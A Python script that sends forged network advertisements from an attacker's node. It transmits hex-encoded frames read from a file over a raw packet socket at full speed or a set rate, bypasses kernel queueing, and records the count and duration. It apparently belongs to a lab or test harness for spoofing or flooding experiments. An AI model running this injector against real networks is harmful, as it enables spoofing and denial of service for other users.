"""Sends forged advertisements as fast as it can, or at a rate.

Run by path on the attacker's node, standard library only. Frames are hexadecimal lines of a file and sent in turn; the
number sent and the seconds it took are written to another file at the end.
"""

import ctypes
import socket
import sys
import time
from pathlib import Path

BATCH = 64
PACKET_QDISC_BYPASS = 20
SOL_PACKET = 263


class Iovec(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


class Message(ctypes.Structure):
    """struct mmsghdr."""

    _fields_ = (
        ("name", ctypes.c_void_p),
        ("name_length", ctypes.c_uint),
        ("vector", ctypes.POINTER(Iovec)),
        ("vectors", ctypes.c_size_t),
        ("control", ctypes.c_void_p),
        ("control_length", ctypes.c_size_t),
        ("flags", ctypes.c_int),
        ("sent", ctypes.c_uint),
    )


def batches(frames: list[bytes]) -> list[ctypes.Array[Message]]:
    """The frames as arrays for sendmmsg(2), each full."""
    while len(frames) % BATCH:
        frames = frames + frames[: BATCH - len(frames) % BATCH]
    made = []
    for first in range(0, len(frames), BATCH):
        array = (Message * BATCH)()
        for message, frame in zip(array, frames[first : first + BATCH], strict=True):
            buffer = ctypes.create_string_buffer(frame, len(frame))
            message.vector = ctypes.pointer(Iovec(ctypes.addressof(buffer), len(frame)))
            message.vectors = 1
            KEPT.append(buffer)
        made.append(array)
    return made


KEPT: list[ctypes.Array[ctypes.c_char]] = []
"""Buffers that the kernel reads."""


def main() -> None:
    """``INTERFACE SECONDS RATE FRAMES SAID``; rate 0: as fast as it goes."""
    interface, seconds, rate = sys.argv[1], float(sys.argv[2]), float(sys.argv[3])
    made = batches([bytes.fromhex(line) for line in Path(sys.argv[4]).read_text().split()])
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    wire.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)
    wire.bind((interface, 0))
    libc = ctypes.CDLL(None)
    sent = turn = 0
    began = time.monotonic()
    while (now := time.monotonic()) < began + seconds:
        if rate and sent > (now - began) * rate:
            time.sleep(0.0005)
            continue
        sent += max(0, libc.sendmmsg(wire.fileno(), made[turn % len(made)], BATCH, 0))
        turn += 1
    Path(sys.argv[5]).write_text(f"{sent} {time.monotonic() - began}")


if __name__ == "__main__":
    main()
